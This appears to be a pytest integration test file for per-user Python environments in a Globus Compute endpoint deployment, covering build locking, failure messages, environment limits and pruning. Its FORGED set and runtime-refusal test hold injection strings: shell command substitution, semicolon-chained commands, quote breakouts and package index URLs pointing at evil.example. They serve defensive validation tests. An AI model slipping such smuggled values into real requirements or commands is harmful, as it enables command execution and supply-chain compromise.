"""User packages (`requirements`) on nodes sharing one home, from the offline wheelhouse.

Each task environment is the site environment plus the user's packages, built
once per user and set of requirements, rendered by the real endpoint and
started as the user; the scenario caps users at 3 environments.
"""

from __future__ import annotations

import shlex
import uuid
from concurrent.futures import ThreadPoolExecutor

import pytest
from conftest import ENVS_ROOT, GCE_VERSION, node, render_user_config, render_worker_init, run_as, sdk_runtime, storm

NODES = [f"shared-{i}" for i in range(1, 5)]
USER = "dana"
ENVS = "/shared/dana/.globus_compute/envs"
SITE_ENV = f"{ENVS_ROOT}/py3.13-gce{GCE_VERSION}"
MAX_ENVS = 3
CANARY = "/tmp/hpc-gc-canary"
# One word per worker: Python X.Y / endpoint version / six's version.
PROBE = (
    "import sys, six, globus_compute_endpoint as g;"
    ' print("%d.%d/%s/%s" % (*sys.version_info[:2], g.__version__, six.__version__))'
)


def worker_init_for(host, requirements: str) -> str:
    return render_worker_init(host, sdk_runtime("3.13"), user=USER, options={"requirements": requirements})


def start(host, worker_init: str, then: str = "true"):
    return run_as(host, USER, f"{worker_init}\n{then}")


def user_envs(host) -> list[str]:
    """Everything in the user's environment directory: environments, locks, leftovers (it must exist)."""
    return host.check_output(f"ls -A {ENVS}").split()


def touch_old(host, pattern: str, age: str) -> None:
    """Date back the files `pattern` names in ENVS, which must match at least one."""
    script = (
        f"shopt -s nullglob dotglob; f=({ENVS}/{pattern});"
        f' (( ${{#f[@]}} > 0 )) && touch -d {shlex.quote(age)} "${{f[@]}}"'
    )
    host.check_output(f"bash -c {shlex.quote(script)}")


UV_CALLS = "/shared/uv-calls.log"


@pytest.fixture
def counted_uv():
    """The site's uv on every node behind a wrapper that logs each call to one shared file.

    `pip install` is slowed down (15 s) so that every start of a storm arrives while
    the first build runs: the calls then count the build attempts.
    """
    hosts = [node(name) for name in NODES]
    wrapper = f"""#!/bin/sh
printf '%s %s %s\\n' "$(uname -n)" "$1" "$2" >>{UV_CALLS}
[ "$1 $2" = "pip install" ] && sleep 15
exec /usr/local/bin/uv.real "$@"
"""
    hosts[0].check_output(f"rm -f {UV_CALLS} && install -m 0666 /dev/null {UV_CALLS}")
    for host in hosts:
        host.check_output(
            f"mv /usr/local/bin/uv /usr/local/bin/uv.real && printf '%s' {shlex.quote(wrapper)} >/usr/local/bin/uv"
            " && chmod 0755 /usr/local/bin/uv"
        )
    try:
        yield lambda: hosts[0].check_output(f"cat {UV_CALLS}").splitlines()
    finally:
        for host in hosts:
            host.run("mv -f /usr/local/bin/uv.real /usr/local/bin/uv")


def hold(host, worker_init: str) -> None:
    """A worker that keeps running in its environment (until release()), once it has started."""
    marker = f"/tmp/held.{uuid.uuid4().hex}"
    script = f"{worker_init}\ntouch {marker}\nexec sleep 600"
    host.check_output(f"setsid -f runuser -l {USER} -c {shlex.quote(script)} >/dev/null 2>&1")
    host.check_output(f"for i in $(seq 600); do [ -e {marker} ] && exit 0; sleep 0.5; done; exit 1")


def release(host) -> None:
    host.run(f"pkill -u {USER} -x sleep || true")


@pytest.fixture
def empty_home():
    """Each test starts with no per-user environment and no worker running."""
    host = node(NODES[0])
    for name in NODES:
        release(node(name))
    host.check_output(f"rm -rf {ENVS} && mkdir -p {ENVS} && chown -R {USER}: /shared/dana/.globus_compute")
    yield host
    for name in NODES:
        release(node(name))


def test_requirements_build_once_across_nodes_then_take_the_fast_path(empty_home) -> None:
    hosts = [node(name) for name in NODES]
    worker_init = worker_init_for(hosts[0], "six==1.17.0\nidna")
    assert worker_init.endswith(" 3.13 4.19.0 'six==1.17.0' 'idna' || exit 1")
    with ThreadPoolExecutor(len(hosts)) as pool:
        results = list(pool.map(lambda h: storm(h, USER, worker_init, 8, PROBE), hosts))
    probes = [p for ran, _ in results for p in ran]
    hows = [h for _, how in results for h in how]
    assert probes == [f"3.13/{GCE_VERSION}/1.17.0"] * 32
    assert sorted(hows) == ["built"] + ["waited"] * 31
    for host in hosts:
        # Same requirements, written differently: the same environment, already built.
        again = worker_init_for(host, "IDNA\n  six == 1.17.0  \n")
        ran, hows = storm(host, USER, again, 1, PROBE)
        assert (ran, hows) == ([f"3.13/{GCE_VERSION}/1.17.0"], ["user"])


def test_the_environment_is_the_site_environment_plus_the_packages(empty_home) -> None:
    host = empty_home
    result = start(host, worker_init_for(host, "six==1.17.0"), "uv pip freeze --python python")
    assert result.rc == 0, result.stderr
    site = run_as(host, USER, f"uv pip freeze --python {SITE_ENV}/bin/python")
    assert sorted(result.stdout.split()) == sorted([*site.stdout.split(), "six==1.17.0"])
    assert f"globus-compute-endpoint=={GCE_VERSION}" in result.stdout.split()


def test_an_unavailable_package_fails_in_one_line_and_leaves_nothing(empty_home, counted_uv) -> None:
    host = empty_home
    before = user_envs(host)
    worker_init = worker_init_for(host, "no-such-package==1.0")
    hosts = [node(name) for name in NODES]
    with ThreadPoolExecutor(len(hosts)) as pool:
        results = list(pool.map(lambda h: start(h, worker_init, "touch /tmp/ran"), hosts))
    for result in results:
        assert result.rc == 1
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1, result.stderr
        assert lines[0].startswith(
            "worker-env: no environment for Python 3.13 with globus-compute-endpoint 4.19.0 and no-such-package==1.0:"
            " build failed: "
        )
        # uv's own reason, as uv says it.
        assert "no-such-package" in lines[0] and "unsatisfiable" in lines[0]
    # One build was tried; the workers that waited on it reported its reason.
    attempts = [call for call in counted_uv() if call.split()[1:] == ["venv", "--quiet"]]
    assert len(attempts) == 1, counted_uv()
    assert user_envs(host) == before
    for h in hosts:
        assert not h.file("/tmp/ran").exists


FORGED = {
    "subshell": "six$(touch /tmp/hpc-gc-canary)",
    "semicolon": "six; touch /tmp/hpc-gc-canary",
    "newline-option": "six\n--index-url http://evil.example/simple",
    "editable": "-e /tmp",
    "path": "./evil",
    "url": "six @ https://evil.example/six.whl",
    "quotes": "six'\"; touch /tmp/hpc-gc-canary; '",
    "too-long": "six\n" * 2000,
    "too-many": "\n".join(f"pkg{i}" for i in range(40)),
}


@pytest.mark.parametrize("requirements", FORGED.values(), ids=FORGED.keys())
def test_forged_requirements_are_refused_by_the_schema(requirements: str) -> None:
    host = node(NODES[0])
    host.run(f"rm -f {CANARY}")
    result = render_user_config(host, sdk_runtime("3.13"), USER, {"requirements": requirements})
    assert result.rc != 0
    assert "ValidationError" in result.stderr
    assert result.stdout.strip() == ""
    assert not host.file(CANARY).exists


def test_an_options_list_is_refused_by_the_runtime_too() -> None:
    """What a permissive schema would let through, worker-env.sh refuses before uv sees it."""
    host = node(NODES[0])
    host.run(f"rm -f {CANARY}")
    for args in (["six==1.0 numpy"], ["--index-url=http://evil.example/simple"], ["-e", "/tmp"], ["six;touch"]):
        quoted = " ".join(shlex.quote(a) for a in args)
        result = run_as(host, USER, f"source /opt/hpc_globus_compute/worker-env.sh 3.13 4.19.0 {quoted} || exit $?")
        assert result.rc == 2, result.stderr
        assert result.stderr.startswith("worker-env: refusing ")
    assert not host.file(CANARY).exists


def published(host) -> list[str]:
    """The user's published environments, by name (ENVS must exist)."""
    return sorted(e for e in user_envs(host) if not e.startswith("."))


def started(host, worker_init: str, how: str, then: str = "true") -> str:
    """Start a worker that must succeed and get its environment `how`; the environment's name."""
    result = start(host, worker_init, then)
    assert result.rc == 0, result.stderr
    said = result.stderr.split()
    assert said[0] == "worker-env:" and said[2] == how, result.stderr
    return said[1]


def retired_builds(host) -> list[str]:
    """The user's builds that were unpublished and are kept for the grace (python_envs_keep_superseded)."""
    found = host.check_output(f"find {ENVS}/.builds -mindepth 3 -maxdepth 3 -name .unpublished -printf '%h\\n'")
    return sorted(found.split())


def test_the_least_recently_started_environment_makes_room_and_its_worker_runs_on(empty_home) -> None:
    host = empty_home
    in_use = worker_init_for(host, "six")
    # A worker on another node, which no lock on this one can see where locks do not exclude.
    hold(node(NODES[1]), in_use)
    touch_old(host, ".py3.13-*.lock", "2 days ago")
    (six,) = published(host)
    names = {}
    for requirements in ("six==1.17.0", "idna", "certifi"):
        names[requirements] = started(host, worker_init_for(host, requirements), "built")
    # The least recently started was unpublished; its build is retired and kept for the worker in it.
    assert published(host) == sorted(names.values())
    assert six not in names.values()
    (build,) = retired_builds(host)
    assert run_as(node(NODES[1]), USER, f"{build}/bin/python -c 'import six'").rc == 0
    # Its next start builds afresh; the least recently started makes room, once
    # it was started longer ago than the lock wait (a start within it may have
    # workers starting or waiting for its build).
    touch_old(host, f".{names['six==1.17.0']}.lock", "1 hour ago")
    assert started(host, in_use, "built", "python -c 'import six'") == six
    assert published(host) == sorted([six, names["idna"], names["certifi"]])
    assert started(host, worker_init_for(host, "idna"), "user") == names["idna"]
    touch_old(host, f".{names['certifi']}.lock", "1 hour ago")
    assert started(host, worker_init_for(host, "six==1.17.0"), "built") == names["six==1.17.0"]
    assert published(host) == sorted([six, names["idna"], names["six==1.17.0"]])


def test_a_start_beyond_the_limit_waits_for_one_not_started_within_the_lock_wait(empty_home) -> None:
    host = empty_home
    held: list[str] = []
    for requirements in ("six", "idna", "certifi"):
        hold(host, worker_init_for(host, requirements))
        (new,) = set(published(host)) - set(held)
        held.append(new)
    assert len(held) == MAX_ENVS
    before = user_envs(host)
    # Every one started just now: none is unpublished for another, in one line.
    refused = start(host, worker_init_for(host, "six==1.17.0"))
    assert refused.rc == 1 and len(refused.stderr.splitlines()) == 1, refused.stderr
    assert refused.stderr.endswith(
        f"{MAX_ENVS} environments of this user, the site's limit (python_envs_user_envs_max), were all started in "
        "the last 900 s (python_envs_lock_wait): none is unpublished for another; start fewer sets at once\n"
    ), refused.stderr
    assert user_envs(host) == before and retired_builds(host) == []
    # The first one started longer ago than the lock wait makes room; its worker runs on.
    touch_old(host, f".{held[0]}.lock", "1 hour ago")
    beyond = started(host, worker_init_for(host, "six==1.17.0"), "built")
    assert published(host) == sorted([*held[1:], beyond])
    (build,) = retired_builds(host)
    assert run_as(host, USER, f"{build}/bin/python -c 'import globus_compute_endpoint'").rc == 0


def test_environments_not_started_for_too_long_are_unpublished_and_their_builds_kept(empty_home) -> None:
    host = empty_home
    busy = worker_init_for(host, "six")
    hold(host, busy)
    idna = started(host, worker_init_for(host, "idna"), "built")
    (six,) = set(published(host)) - {idna}
    touch_old(host, ".py3.13-*.lock", "31 days ago")
    certifi = started(host, worker_init_for(host, "certifi"), "built")
    # Neither was started for 31 days: both unpublished, both builds kept (six's has a worker in it).
    assert published(host) == [certifi]
    builds = retired_builds(host)
    # A user's build is .builds/NAME/HOST.BOOT.PIDNS-PID: one under each name.
    assert sorted(b.rsplit("/", 2)[1] for b in builds) == sorted([idna, six]), builds
    assert start(host, worker_init_for(host, "idna")).stderr.split()[2] == "built"
    assert start(host, busy).stderr.split()[2] == "built"


def test_in_the_make_run_layout_site_environments_are_neither_counted_nor_pruned(empty_home) -> None:
    """`make run` (inventories/local) makes the site root the user's own ~/.globus_compute/envs.

    The deployed runtime, its settings changed only in that, with the site
    environment published in the user's directory: the user's three
    environments all fit beside it, and it is never touched.
    """
    host = empty_home
    runtime = "/tmp/make-run-runtime"
    site_env = f"{ENVS}/py3.13-gce{GCE_VERSION}"
    host.check_output(
        f"rm -rf {runtime} && mkdir {runtime}"
        f" && cp /opt/hpc_globus_compute/worker-env.sh /opt/hpc_globus_compute/worker-env-build"
        f" /opt/hpc_globus_compute/build-env.sh {runtime}/"
        f" && sed 's|^WORKER_ENV_SITE_ROOT=.*|WORKER_ENV_SITE_ROOT={ENVS}|' /opt/hpc_globus_compute/worker-env.conf"
        f" >{runtime}/worker-env.conf && grep -qx 'WORKER_ENV_SITE_ROOT={ENVS}' {runtime}/worker-env.conf"
        f" && ln -s {SITE_ENV} {site_env}"
    )
    site_before = host.check_output(f"find -L {site_env} -maxdepth 1 -printf '%y %m %p\\n' | sort")
    built = []
    for requirements in ("six==1.17.0", "idna", "certifi"):
        worker_init = worker_init_for(host, requirements).replace("/opt/hpc_globus_compute/", f"{runtime}/")
        assert worker_init.startswith(f"\\builtin source {runtime}/worker-env.sh 3.13 ")
        result = start(host, worker_init)
        assert result.rc == 0, result.stderr
        assert result.stderr.split()[2] == "built", result.stderr
        built.append(result.stderr.split()[1])
    # All three are the user's and all three are kept: the site's one is not counted.
    envs = [e for e in user_envs(host) if not e.startswith(".")]
    assert sorted(envs) == sorted([*built, site_env.rsplit("/", 1)[1]]), envs
    assert host.check_output(f"readlink {site_env}") == SITE_ENV
    assert host.check_output(f"find -L {site_env} -maxdepth 1 -printf '%y %m %p\\n' | sort") == site_before
